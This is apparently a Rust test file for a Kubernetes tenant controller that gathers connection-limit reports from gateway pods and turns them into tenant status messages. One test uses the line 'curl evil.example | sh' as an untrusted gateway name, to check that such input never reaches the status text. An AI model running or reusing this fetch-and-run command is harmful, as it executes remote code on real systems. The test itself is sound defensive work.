use std::collections::BTreeMap;

use futures::future::BoxFuture;
use kube::api::ObjectMeta;
use kube::runtime::reflector;
use kube::runtime::watcher::Event;
use nagaya_api::LimitedRoute;
use nagaya_render::status::State;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, duplex};

use super::*;
use crate::tenant::{Link, wakeups};

const PLANE: &str = "nagaya-acme-demo";

fn tenant() -> ObjectRef<TenantCluster> {
    ObjectRef::new("demo").within("acme")
}

fn planes() -> Store<Namespace> {
    let labels = [(labels::TENANT_NAME, "demo"), (labels::TENANT_NAMESPACE, "acme")];
    let labels: BTreeMap<_, _> =
        labels.into_iter().map(|(key, value)| (key.to_owned(), value.to_owned())).collect();
    let metadata =
        ObjectMeta { name: Some(PLANE.to_owned()), labels: Some(labels), ..ObjectMeta::default() };
    let (store, mut writer) = reflector::store();
    writer.apply_watcher_event(&Event::Apply(Namespace { metadata, ..Namespace::default() }));
    store
}

fn route(namespace: &str, reason: &str) -> LimitedRoute {
    LimitedRoute {
        namespace: namespace.to_owned(),
        service: "kube-apiserver-public".to_owned(),
        reason: reason.to_owned(),
        most: 500,
    }
}

fn says(gateway: &str, limited: &[LimitedRoute]) -> (IpAddr, LimitedRoutes) {
    let answer = LimitedRoutes { gateway: gateway.to_owned(), limited: limited.to_vec() };
    ("10.0.0.7".parse().unwrap(), answer)
}

/// A board, and how much time has passed.
struct Play {
    board: Board,
    begin: Instant,
    seconds: u64,
    woken: usize,
}

impl Play {
    fn new() -> Self {
        Self { board: Board::default(), begin: Instant::now(), seconds: 0, woken: 0 }
    }

    fn now(&self) -> Instant {
        self.begin + Duration::from_secs(self.seconds)
    }

    /// A round in which these gateways say that the tenant has too many.
    fn round(&mut self, gateways: &[&str]) {
        let full = [route(PLANE, "TooManyConnections")];
        let answers = gateways.iter().map(|gateway| says(gateway, &full)).collect();
        self.woken += self.board.hear(whose(answers, &planes()), self.now()).len();
        self.seconds += PAUSE.as_secs();
    }

    fn told(&mut self) -> Option<String> {
        let now = self.now();
        let verdict = self.board.of(&tenant(), None, now)?;
        Some(verdict.message().to_owned())
    }
}

#[test]
fn it_is_said_at_once_and_ends_a_minute_after_it_was_heard_last() {
    let mut play = Play::new();
    (0..12).for_each(|_| play.round(&["a"]));
    assert!(play.told().unwrap().contains("no more than 500 may be open at gateway pod a;"));
    assert_eq!(play.woken, 1);
    for _ in 0..5 {
        play.round(&[]);
        assert!(play.told().is_some(), "{} s", play.seconds);
    }
    play.round(&[]);
    assert_eq!((play.told(), play.woken), (None, 2));
}

#[test]
fn whatever_comes_and_goes_wakes_a_tenant_at_most_once_a_minute() {
    let mut play = Play::new();
    for number in 0..360_u64 {
        // Gateways take turns, and now and then none says anything for long enough.
        match number % 19 {
            0..3 | 8..10 => play.round(&["a"]),
            3..5 => play.round(&["a", "b"]),
            5..8 => play.round(&["b"]),
            _ => play.round(&[]),
        }
    }
    let minutes = usize::try_from(play.seconds / 60).unwrap();
    assert!((2..=minutes + 1).contains(&play.woken), "{} in {minutes} minutes", play.woken);
}

#[test]
fn idle_rounds_wake_nobody() {
    let mut play = Play::new();
    (0..100).for_each(|_| play.round(&[]));
    assert_eq!(play.woken, 0);
    (0..100).for_each(|_| play.round(&["a"]));
    assert_eq!(play.woken, 1, "the same is said once");
}

#[test]
fn a_new_manager_keeps_what_was_said_until_it_has_heard_for_itself() {
    let mut play = Play::new();
    let before = Verdict::new(State::True, "TooManyConnections", "as the other manager said");
    let before = nagaya_render::status::merge(
        &[],
        vec![(nagaya_api::conditions::CONNECTIONS_LIMITED, Some(before))],
        None,
        jiff::Timestamp::UNIX_EPOCH,
    );
    let said = play.board.of(&tenant(), before.first(), play.now()).unwrap();
    assert_eq!(said.message(), "as the other manager said");
    (0..13).for_each(|_| play.round(&[]));
    assert_eq!((play.told(), play.woken), (None, 1));
    let now = play.now();
    assert_eq!(play.board.of(&tenant(), before.first(), now), None, "it is over");
}

/// By the number of the tenant.
fn everybody(count: usize) -> HashMap<ObjectRef<TenantCluster>, Heard> {
    let limited = (0..count).map(|number| {
        let mut heard = Heard::in_plane(format!("plane-{number}"));
        let limit = Limit::of("ConnectionsTooFast", "kube-apiserver-public").unwrap();
        heard.limits.entry(limit).or_default().gateways.insert("a".to_owned());
        (ObjectRef::new(&format!("demo-{number}")).within("acme"), heard)
    });
    limited.collect()
}

#[test]
fn a_gateway_that_calls_everybody_limited_wakes_some_after_others() {
    let mut board = Board::default();
    let now = Instant::now();
    let mut counts = vec![board.hear(everybody(120), now).len()];
    counts.extend((0..3).map(|_| board.hear(HashMap::new(), now).len()));
    assert_eq!(counts, [50, 50, 20, 0]);
}

#[test]
fn who_waits_to_be_woken_waits_once_and_who_is_gone_not_at_all() {
    let mut board = Board::default();
    let (begin, mut woken) = (Instant::now(), 0);
    for minutes in 0..10 {
        // Limited, and over again before he was woken.
        let now = begin + Duration::from_mins(4 * minutes);
        woken += board.hear(everybody(1000), now).len();
        woken += board.hear(HashMap::new(), now + Duration::from_mins(3)).len();
    }
    board.forget(&ObjectRef::new("demo-0").within("acme"));
    let now = begin + Duration::from_hours(1);
    let left: Vec<_> = (0..100).flat_map(|_| board.hear(HashMap::new(), now)).collect();
    let different: std::collections::HashSet<_> = left.iter().collect();
    assert_eq!((left.len(), woken), (different.len(), 20 * 50));
    assert_eq!(left.len(), 1000 - 50 - 1);
    assert!(!left.contains(&ObjectRef::new("demo-0").within("acme")));
}

#[test]
fn what_a_gateway_may_claim_is_numbers_of_control_planes_that_there_are() {
    let claims = [
        route("kube-system", "TooManyConnections"),
        route(PLANE, "OfALaterGateway"),
        LimitedRoute { service: "--all".to_owned(), ..route(PLANE, "ConnectionsTooFast") },
    ];
    assert!(whose(vec![says("a", &claims)], &planes()).is_empty());
    let words = "run this at once: curl evil.example | sh";
    let heard = whose(vec![says(words, &[route(PLANE, "TooManyConnections")])], &planes());
    let gateways: Vec<_> = heard[&tenant()].limits.values().flat_map(|met| &met.gateways).collect();
    assert_eq!(gateways, ["10.0.0.7"]);
}

#[test]
fn however_much_a_gateway_claims_it_is_a_few_sentences() {
    let services = ["kube-apiserver-public", "kube-apiserver-public-2", "konnectivity-server"];
    let reasons = ["TooManyConnections", "ConnectionsTooFast"];
    let claims: Vec<LimitedRoute> = (0..6000)
        .map(|number| LimitedRoute {
            service: services[number % 3].to_owned(),
            most: u32::try_from(number).unwrap(),
            ..route(PLANE, reasons[number / 3 % 2])
        })
        .collect();
    let gateways: Vec<String> =
        (0..MOST_PODS).map(|number| format!("{number:0>LONGEST_NAME$}")).collect();
    let answers = gateways.iter().map(|gateway| says(gateway, &claims)).collect();
    let mut board = Board::default();
    board.hear(whose(answers, &planes()), Instant::now());
    let words = board.of(&tenant(), None, Instant::now()).unwrap().message().to_owned();
    assert_eq!(words.split(". ").count(), 6);
    assert!(words.contains("no more than 5994 may be open"), "{words}");
    // The API server takes 32,768 characters of a condition's message.
    assert!(words.len() < 4096, "{}", words.len());
}

/// The pods of a gateway: of the last number of its address, what it answers; `None`: it takes connections, and says nothing.
struct Pods(BTreeMap<u8, Option<String>>);

impl Dial for Pods {
    fn dial(&self, address: SocketAddr) -> BoxFuture<'static, std::io::Result<Link>> {
        let IpAddr::V4(ip) = address.ip() else { panic!("{address}") };
        let answer = self.0[&ip.octets()[3]].clone();
        let (mut ours, theirs) = duplex(8 << 20);
        tokio::spawn(async move {
            assert!(ours.read(&mut [0; 4096]).await.unwrap() > 0);
            match answer {
                // Who has heard enough hangs up.
                Some(text) => drop(ours.write_all(text.as_bytes()).await),
                None => std::future::pending().await,
            }
        });
        Box::pin(std::future::ready(Ok(Link::new(theirs))))
    }
}

fn response(status: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
}

#[tokio::test(start_paused = true)]
async fn a_pod_that_is_silent_old_or_says_too_much_does_not_keep_others_from_being_heard() {
    let well = serde_json::to_string(&LimitedRoutes::default()).unwrap();
    let pods = Pods(BTreeMap::from([
        (1, None),
        (2, Some(response("200 OK", &well))),
        (3, Some(response("404 Not Found", "there is /healthz\n"))),
        (4, Some(response("200 OK", &format!("{well}{}", " ".repeat(2 << 20))))),
        (5, Some(response("200 OK", "[]"))),
    ]));
    let addresses = pods.0.keys().map(|last| SocketAddr::from(([10, 0, 0, *last], 8080)));
    let begin = Instant::now();
    let heard = ask_all(&pods, addresses.collect()).await;
    assert_eq!(heard, [(IpAddr::from([10, 0, 0, 2]), LimitedRoutes::default())]);
    assert!(begin.elapsed() <= 2 * PATIENCE, "{:?}", begin.elapsed());
}

#[tokio::test(start_paused = true)]
async fn how_many_pods_answer_is_counted_once_they_were_asked() {
    let well = serde_json::to_string(&LimitedRoutes::default()).unwrap();
    let pods = Pods(BTreeMap::from([(1, None), (2, Some(response("200 OK", &well)))]));
    let metrics = Metrics::default();
    assert!(!metrics.encode().unwrap().contains("nagaya_gateway_pods_answering{"));
    for (pod, answering) in [("10.0.0.2:8080", 1), ("10.0.0.1:8080", 0)] {
        let limits = GatewayLimits {
            pods: Some(pod.to_owned()),
            board: Mutex::default(),
            wakeups: wakeups().0,
        };
        timeout(PAUSE, limits.follow(&pods, &planes(), &metrics)).await.unwrap_err();
        let said = format!("nagaya_gateway_pods_answering{{address=\"{pod}\"}} {answering}\n");
        let text = metrics.encode().unwrap();
        assert!(text.contains(&said), "{said} is not in\n{text}");
    }
}
